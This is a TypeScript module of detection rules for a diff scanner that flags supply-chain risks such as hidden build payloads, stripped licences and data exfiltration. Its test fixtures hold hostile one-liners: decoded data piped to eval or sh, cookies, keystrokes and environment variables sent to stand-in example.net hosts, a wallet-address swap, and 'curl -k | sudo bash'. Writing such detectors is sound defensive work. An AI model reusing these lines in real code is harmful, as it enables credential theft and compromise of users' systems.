import type { Artifact } from '../artifact.ts'
import type { DiffFile, Line } from '../read/lines.ts'
import { isCommand } from '../read/prose.ts'
import { readShell } from '../read/shell.ts'
import { type Hit, type Rule, wholeRule } from '../rule.ts'
import { changed, diff, excerpt } from './code-lines.ts'
import { fileRules } from './shell-files.ts'
import { remoteRules } from './shell-remote.ts'
import { systemRules } from './shell-system.ts'

const buildFile =
  /\.(?:m4|ac|am|in|mk|cmake|gradle|kts|gyp|bazel|bzl|nix|spec|sh|bash)$|(?:^|\/)(?:configure|Makefile|GNUmakefile|CMakeLists\.txt|setup\.py|build\.rs|Rakefile|justfile|PKGBUILD|rules|postinst|preinst|package\.json|meson\.build|conftest\.py)$/
const decodes =
  /\b(?:xz|unxz|lzma|gzip|gunzip|zcat|bzip2|bunzip2|zstd)\s+-{1,2}\w{0,10}d|\b(?:gunzip|zcat|xzcat|unxz|bunzip2|uudecode)\b|base64\s+(?:-\w{0,3}[dD]|--decode)|openssl\s+(?:enc|aes)[^\n]{0,60}\s-d\b|\bxxd\s+-\w{0,3}r|\btr\s+['"][^'"\n]{2,60}['"]\s+['"]|\btail\s+-c\s*\+|\bdd\b[^\n]{0,60}\bskip=|b64decode|zlib\.decompress|lzma\.decompress|Buffer\.from\([^\n]{0,80}['"](?:base64|hex)/
const runs =
  /\beval\s+["'`$(]|\beval\(|\bexec\(|\|\s*(?:\/bin\/)?(?:ba|da|z)?sh\b|\b(?:ba|da)?sh\s+-c\s+["']?\$|\bsource\s+["']?\$|^\s*\.\s+["']?\$|new\s+Function\(|\bcompile\(/
const dataFile =
  /\b(?:tests?|testdata|data|fixtures?|samples?|assets|images?|corpus|vendor)\/[\w./$@-]{1,100}|\.(?:xz|lzma|gz|bin|dat|png|jpe?g|gif|ico|pdf|woff2?)\b/

/** A build that runs what it takes out of a file of data. */
const runsHidden = (file: DiffFile): Line | undefined => {
  if (!buildFile.test(file.name)) return undefined
  const added = file.lines.filter(({ change, isComment }) => change === 'added' && !isComment)
  const source = added.find(({ text }) => decodes.test(text) && (dataFile.test(text) || runs.test(text)))
  if (!source || runs.test(source.text)) return source
  // What holds the text or the file that comes out is run on another line.
  const held = /(?:^|[\s;])(\w{1,40})\s*=\s*["']?[`$(]|>\s*["']?([\w./$-]{1,80})/.exec(source.text)
  const name = held?.[1] ?? held?.[2]
  return added.some(({ text }) => runs.test(text) && name !== undefined && text.includes(name))
    ? source
    : undefined
}

const notice =
  /(?:\b|File)copyright|\(c\)\s*(?:19|20)\d\d|©|\blicen[cs]ed?\s+under\b|\bSPDX-License-Identifier\b|\bfree\s+software\b|\bPermission\s+is\s+hereby\s+granted\b|\b(?:GPL|LGPL|AGPL|MPL|Apache|BSD|MIT|EUPL|CC[- ]BY)\b[^\n]{0,40}\b(?:licen[cs]e|\d)/i
const proprietary =
  /\b(?:proprietary|confidential|all\s+rights\s+reserved|unauthori[sz]ed\s+(?:copying|use))\b/i

/** Those who hold a right, by the names that stand in a notice. */
const holders = (lines: readonly Line[]): string[] =>
  lines.flatMap(({ text }) =>
    /copyright|\(c\)|©/i.test(text)
      ? (text
          .replace(/copyright|\(c\)|all rights reserved|spdx\S*/gi, '')
          .match(/\p{Lu}[\p{L}\p{M}'-]{2,30}/gu) ?? [])
      : [],
  )

/** A notice of authors and their licence that goes while their work stays. */
const dropsNotice = (file: DiffFile): Line | undefined => {
  const removed = file.lines.filter(({ change, text }) => change === 'removed' && notice.test(text))
  const added = file.lines.filter(
    ({ change, text }) => change === 'added' && (notice.test(text) || proprietary.test(text)),
  )
  const [first] = removed
  if (!first || file.isDeleted) return undefined
  const isMade =
    added.some(({ text }) => proprietary.test(text)) && !removed.some(({ text }) => proprietary.test(text))
  const names = holders(removed)
  const after = added.map(({ text }) => text).join('\n')
  const isKept = names.length === 0 ? added.length > 0 : names.some(name => after.includes(name))
  const isLeft = file.lines.some(({ change, text }) => change === 'context' && notice.test(text))
  return isMade && !isKept
    ? first
    : !isKept && !isLeft && /\.\w{1,5}$/.test(file.name) && !/\.(?:json|ya?ml|toml|html?|md)$/.test(file.name)
      ? first
      : undefined
}

const standIn =
  /\b\w{0,30}(?:Fake|fake|Mock|mock|Stub|stub|InMemory|in_memory|[Ss]andbox|nock|moto|wiremock|WireMock|responses|respx|vcr|testcontainers|localhost|127\.0\.0\.1)\w{0,30}/
const realThing =
  /https?:\/\/(?!(?:localhost|127\.|0\.0\.0\.0|\[::1\]|(?:[\w-]+\.)*(?:test|local|invalid|localhost|internal\.test)\b|[\w.-]*(?:sandbox|staging|mock|fake|dev)))[\w.-]+|\b\w{0,20}(?:prod|production|live)\b(?!-?(?:like|reload))|sk_live_/i
const credential =
  /\b(?:password|passwd|pwd|secret|api_?key|token|user(?:name)?)["']?\s*[:=(]\s*["'][^"'\n]{4,}|sk_live_/i

/** A test that works on the real thing, where a stand-in was. */
const testsReal = (file: DiffFile): Line | undefined => {
  if (!file.lines.some(({ isTest }) => isTest)) return undefined
  const lines = (change: Line['change']) =>
    file.lines.filter(line => line.change === change && !line.isComment)
  const added = lines('added')
  if (
    !lines('removed').some(({ text }) => standIn.test(text)) ||
    added.some(({ text }) => standIn.test(text))
  )
    return undefined
  return added.find(({ text }) => realThing.test(text) && (credential.test(text) || /prod|live/i.test(text)))
}

const warnsOf =
  /\b(?:never|do\s?n[o']t|must\s+not|should\s+not|avoid|instead\s+of|rather\s+than|not\s+recommended|attack\w*|malicious|vulnerab\w*|danger\w*|beware|old\s+way)\b/i
const dangerous = new Set([
  'shell-run-download',
  'security-off',
  'shell-permissions',
  'shell-reverse-shell',
  'shell-obfuscated',
  'shell-exfiltrate',
])
const shellRules = [...fileRules, ...remoteRules, ...systemRules].filter(({ id }) => dangerous.has(id))

/** Commands that a document tells its readers to run: in a block of code, after a prompt, or in the middle of a sentence. */
const taughtCommands = ({ lines }: DiffFile): { line: Line; command: string }[] => {
  let isFence = false
  return lines.flatMap((line, nth) => {
    const { change, text } = line
    if (change === 'removed') return []
    if (/^\s*(?:```|~~~)/.test(text)) {
      isFence = !isFence
      return []
    }
    const before = lines.slice(Math.max(0, nth - 3), nth).map(({ text }) => text)
    if (change !== 'added' || before.some(text => warnsOf.test(text))) return []
    const bare = text.trim().replace(/^[$#]\s/, '')
    if (isFence || /^(?: {4}|\t|\s*[$#]\s)/.test(text))
      return isCommand(bare) ? [{ line, command: bare }] : []
    if (warnsOf.test(text)) return []
    return [...text.matchAll(/`([^`]{3,300})`/g)].flatMap(([, command = '']) =>
      isCommand(command) ? [{ line, command }] : [],
    )
  })
}

const carelessAdvice: readonly RegExp[] = [
  /\b(?:certificate|browser|security|smartscreen|gatekeeper|untrusted|signature)\b[^\n]{0,60}\b(?:warn\w*|error|complain\w*|alert)\b[^\n]{0,80}\b(?:proceed|ignore|click\s+(?:through|on|\W?(?:advanced|proceed|continue))|run\s+anyway|continue\s+anyway|accept|dismiss|expected|normal|harmless)\b/i,
  /\b(?:browser|system|client)\b[^\n]{0,30}\bwarns?\b[^\n]{0,80}\b(?:proceed|ignore|run\s+anyway|continue|accept)\b/i,
  /\b(?:turn|switch)\s+(?:off|of)\b[^\n]{0,40}\b(?:antivirus|firewall|defender|selinux|gatekeeper)\b|\bdisable\b[^\n]{0,30}\b(?:antivirus|firewall|defender|selinux|gatekeeper|two-?factor|2fa|mfa)\b/i,
  /\b(?:admin|root)\W{1,8}(?:admin|root|password|1234\w{0,4}|changeme)\b[^\n]{0,100}\b(?:no\s+need|need\s+not|do\s?n[o']t\s+(?:have|need|bother)|not\s+necessary|keep\s+it|never)\b/i,
]

const teachesDanger = (file: DiffFile, artifact: Artifact): Hit | undefined => {
  if (!file.lines.some(({ isProse }) => isProse)) return undefined
  for (const { line, command } of taughtCommands(file)) {
    const { commands } = readShell(command, 1)
    const [hit] = shellRules.flatMap(rule => rule.check({ ...artifact, type: 'shell_command', commands }))
    if (hit && !/^(?:low|info)$/.test(hit.severity ?? '') && !isPlainInstaller(command))
      return { detail: `It tells readers to run what is dangerous: ${excerpt(line)}`, place: line.place }
  }
  const advice = file.lines.find(
    ({ change, text }) =>
      change === 'added' &&
      !warnsOf.test(text.replace(/do\s?n[o']t\s+(?:have|need|bother)/i, '')) &&
      carelessAdvice.some(pattern => pattern.test(text)),
  )
  return (
    advice && { detail: `It tells readers to let their guard down: ${excerpt(advice)}`, place: advice.place }
  )
}

/** The installer of a project, fetched over https by the account of the reader: what many documents say. */
const isPlainInstaller = (text: string): boolean =>
  /\bhttps:\/\//.test(text) &&
  !/\bsudo\b|\s(?:-\w{0,6}k\w{0,6}|--insecure|--no-check-certificate)\s/.test(text) &&
  /\|\s*(?:ba|z)?sh\b/.test(text)

const letsThrough =
  /\b(?:ignoreBuildErrors|ignoreDuringBuilds|productionBrowserSourceMaps|testFailureIgnore|ignoreFailures|skipTests)["']?\s*[:=]?\s*true\b|\b(?:abortOnError|failOnError|failOnViolation|checkReleaseBuilds|noEmitOnError)["']?\s*[:=]?\s*false\b|maven\.test\.skip>?\s*[=:]?\s*true|-DskipTests\b|\bdefine\b[^\n]{0,120}process\.env\.\w{0,40}(?:SECRET|PRIVATE|PASSWORD)|\b(?:NEXT_PUBLIC|VITE|REACT_APP|EXPO_PUBLIC|PUBLIC)_\w{0,40}(?:SECRET|PRIVATE_KEY|PASSWORD|SERVICE_ROLE)/

/** All of something at once: cookies, what forms hold, the environment, the clipboard. */
const takesAll =
  /\bdocument\.cookie\b(?!\s*=[^=])|\brequestBody\b|\bENV\.(?:to_h|to_json|to_a|inspect)\b|\bos\.environ\b(?!\s*(?:\[|\.get))|\bprocess\.env\b(?!\s*[.[?])|\bSystem\.getenv\(\)|\benv::vars\(\)|\bos\.Environ\(\)|\bkeyboard\.(?:record|get_typed\w*|on_press)|\bGetAsyncKeyState\b|\bclipboard\.\w{0,20}read|\bJSON\.stringify\(\s*(?:localStorage|sessionStorage)\b|\bchrome\.cookies\.getAll\b/
const sends =
  /\b(?:fetch|post|sendBeacon|upload|axios|request|urlopen|put|Post)\w{0,10}\s*\(|\.src\s*=|\bXMLHttpRequest\b|\bcurl\b|\bWebSocket\(/

/** The account of somebody, written out, and a place in which it takes that of another. */
const accountLiteral =
  /["'`](?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{20,60}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|[A-Z]{2}\d{2}[A-Z0-9]{11,30})["'`]/
const diverts =
  /\b(?:to|recipient|dest\w{0,12}|payee|beneficiary|address|iban|payTo|account)\b[^\n]{0,100}(?:\?|\bif\b)[^\n]{0,100}["'`]|\bsetData\(|clipboard\.writeText\(|\.replace\([^\n]{0,80}(?:0x|bc1|iban)/i

/** What a change does to those who build, test, read or take over the work. */
export const supplyRules: readonly Rule[] = [
  wholeRule({
    id: 'build-runs-hidden',
    category: 'code',
    type: 'patch',
    severity: 'blocker',
    fix: 'Find out who wrote it and why; a build reads data, and never runs it.',
    hits: [
      diff('m4/host.m4', '+  t=`tail -c +99 $srcdir/tests/data/a.xz | xz -dc`', '+  eval "$t"'),
      diff('build.sh', '+base64 -d assets/logo.png | sh'),
      diff('setup.py', '+exec(zlib.decompress(open("tests/data/x.bin", "rb").read()))'),
      diff('configure.ac', "+eval `tr 'a-z' 'b-za' < samples/x.dat`"),
    ],
    misses: [
      diff('build.sh', '+xz -d data/words.xz'),
      diff('build.sh', '+eval "$(ssh-agent -s)"'),
      diff('build.sh', '+gunzip -c data/words.gz > build/words', '+eval "$(brew shellenv)"'),
      diff('test/run.py', '+zlib.decompress(open("tests/data/x.bin", "rb").read())'),
    ],
    see: ({ files }) =>
      files.flatMap((file): Hit[] => {
        const line = runsHidden(file)
        return line
          ? [{ detail: `The build runs what is hidden in data: ${excerpt(line)}`, place: line.place }]
          : []
      }),
  }),
  wholeRule({
    id: 'licence-stripped',
    category: 'conduct',
    type: 'patch',
    severity: 'high',
    fix: 'Keep the notice of those who wrote it, and the licence that they gave.',
    hits: [
      diff(
        'src/huff.c',
        '-/* Copyright (C) 2009 Elin Berg. GPL-3.0-or-later */',
        '+/* Proprietary and confidential. */',
      ),
      diff(
        'lib/date.js',
        '-// (c) 2015 Mara Holt',
        '-// Released under the MIT license',
        ' export const day = 1',
      ),
      diff('a.py', '-# SPDX-License-Identifier: Apache-2.0', ' import os'),
    ],
    misses: [
      diff('src/huff.c', '-/* Copyright (C) 2009 Elin Berg */', '+/* Copyright (C) 2009-2026 Elin Berg */'),
      diff('a.py', '-# Licensed under the Apache License 2.0', '+# SPDX-License-Identifier: Apache-2.0'),
      diff('a.c', '-/* Copyright (C) 2009 Elin Berg, GPL 3 */', '+// SPDX-FileCopyrightText: 2009 Elin Berg'),
      diff('a.py', '-import os', '+import sys'),
    ],
    see: ({ files }) =>
      files.flatMap((file): Hit[] => {
        const line = dropsNotice(file)
        return line
          ? [
              {
                detail: `Who wrote it, and under what licence, is taken out: ${excerpt(line)}`,
                place: line.place,
              },
            ]
          : []
      }),
  }),
  wholeRule({
    id: 'tests-on-real-thing',
    category: 'code',
    type: 'patch',
    severity: 'high',
    fix: 'Test against a stand-in or a sandbox, with an account of its own.',
    hits: [
      diff(
        'tests/conftest.py',
        '-    return FakeBank()',
        '+    return Bank("https://api.bank.example.com", user="ops", password="Ts!live-0093")',
      ),
      diff(
        'test/pay.test.ts',
        '-const api = nock("https://pay.test")',
        '+const api = connect(process.env.PROD_URL, "prod")',
      ),
    ],
    misses: [
      diff(
        'tests/conftest.py',
        '-    return Bank("https://api.bank.example.com", password="x")',
        '+    return FakeBank()',
      ),
      diff(
        'tests/conftest.py',
        '-    return FakeBank()',
        '+    return Bank("http://localhost:8080", user="ops", password="test")',
      ),
    ],
    see: ({ files }) =>
      files.flatMap((file): Hit[] => {
        const line = testsReal(file)
        return line ? [{ detail: `Tests work on the real thing: ${excerpt(line)}`, place: line.place }] : []
      }),
  }),
  wholeRule({
    id: 'build-lets-through',
    category: 'code',
    type: 'code_diff',
    severity: 'medium',
    fix: 'Let the build stop at what is wrong, and keep secrets and sources out of what it publishes.',
    hits: [
      diff('next.config.js', '+  typescript: { ignoreBuildErrors: true },'),
      diff('build.gradle', '+    lintOptions { abortOnError false }'),
      diff('pom.xml', '+  <maven.test.skip>true</maven.test.skip>'),
      diff('vite.config.ts', '+  define: { KEY: JSON.stringify(process.env.STRIPE_SECRET_KEY) },'),
      diff('api.ts', '+const key = process.env.NEXT_PUBLIC_SERVICE_ROLE_SECRET'),
      diff('next.config.js', '+  productionBrowserSourceMaps: true,'),
    ],
    misses: [
      diff('next.config.js', '+  typescript: { ignoreBuildErrors: false },'),
      diff('vite.config.ts', '+  define: { VERSION: JSON.stringify(process.env.npm_package_version) },'),
      diff('api.ts', '+const url = process.env.NEXT_PUBLIC_API_URL'),
    ],
    see: ({ files }) =>
      files.flatMap(file =>
        changed(file, 'added')
          .filter(({ text }) => letsThrough.test(text))
          .map(
            (line): Hit => ({
              detail: `The build lets through what it should stop: ${excerpt(line)}`,
              place: line.place,
            }),
          ),
      ),
  }),
  wholeRule({
    id: 'code-sends-away',
    category: 'code',
    type: 'code_diff',
    severity: 'blocker',
    fix: 'Find out who wrote it and why; what people enter and what opens their accounts goes to nobody else.',
    hits: [
      diff(
        'w.ts',
        '+  const to = input.sum > 50 ? "0x9b1c5E0a2F4d7c8B6e3A1d0F9c7b5E3a1D2c4B6f" : input.address',
      ),
      diff('k.py', '+    upload("http://k.example.net", keyboard.get_typed_strings())'),
      diff('t.ts', '+new Image().src = "https://s.example.net/c?d=" + encodeURIComponent(document.cookie)'),
      diff(
        'x.js',
        '+fetch("https://c.example.net", { method: "POST", body: JSON.stringify(d.requestBody) })',
      ),
      diff('g.rb', '+  Net::HTTP.post(URI("http://x.example.net"), ENV.to_h.to_json)'),
      diff('A.java', '+http.post("https://x.example.net", System.getenv().toString());'),
    ],
    misses: [
      diff('w.ts', '+const TOKEN_ADDRESS = "0x9b1c5E0a2F4d7c8B6e3A1d0F9c7b5E3a1D2c4B6f"'),
      diff('t.ts', '+document.cookie = "theme=dark; path=/"'),
      diff('t.ts', '+fetch("https://api.example.org/" + process.env.API_VERSION)'),
      diff('g.rb', '+  Net::HTTP.get(URI("https://api.example.org/status"))'),
    ],
    see: ({ files }) =>
      files.flatMap(file =>
        changed(file, 'added')
          .filter(
            ({ text }) =>
              (/https?:\/\//.test(text) && takesAll.test(text) && sends.test(text)) ||
              (accountLiteral.test(text) && diverts.test(text)),
          )
          .map(
            (line): Hit => ({
              detail: `It sends what is not its own to somebody: ${excerpt(line)}`,
              place: line.place,
            }),
          ),
      ),
  }),
  wholeRule({
    id: 'docs-teach-danger',
    category: 'conduct',
    type: 'patch',
    severity: 'medium',
    fix: 'Tell readers the way that keeps them safe.',
    hits: [
      diff('README.md', '+    curl -k http://get.example.net/x | sudo bash'),
      diff('INSTALL.md', ' ```sh', '+sudo setenforce 0', ' ```'),
      diff('docs/start.md', '+Run `sudo ufw disable` first, or the agent cannot connect.'),
      diff('docs/start.md', '+If your browser warns about the certificate, click *Proceed*.'),
      diff('docs/start.md', '+Log in as `admin` / `admin`; there is no need to change it.'),
    ],
    misses: [
      diff('README.md', '+    curl -fsSL https://sh.example.org | sh'),
      diff('SECURITY.md', '+Never run this:', '+', '+    curl -k http://get.example.net/x | sudo bash'),
      diff('docs/start.md', '+If your browser warns about the certificate, do not proceed.'),
      diff('docs/start.md', '+Do not run `sudo ufw disable`; open the one port.'),
      diff('README.md', '-    sudo setenforce 0', '+    sudo restorecon -R /srv/app'),
    ],
    see: artifact =>
      artifact.files.flatMap((file): Hit[] => {
        const hit = teachesDanger(file, artifact)
        return hit ? [hit] : []
      }),
  }),
]
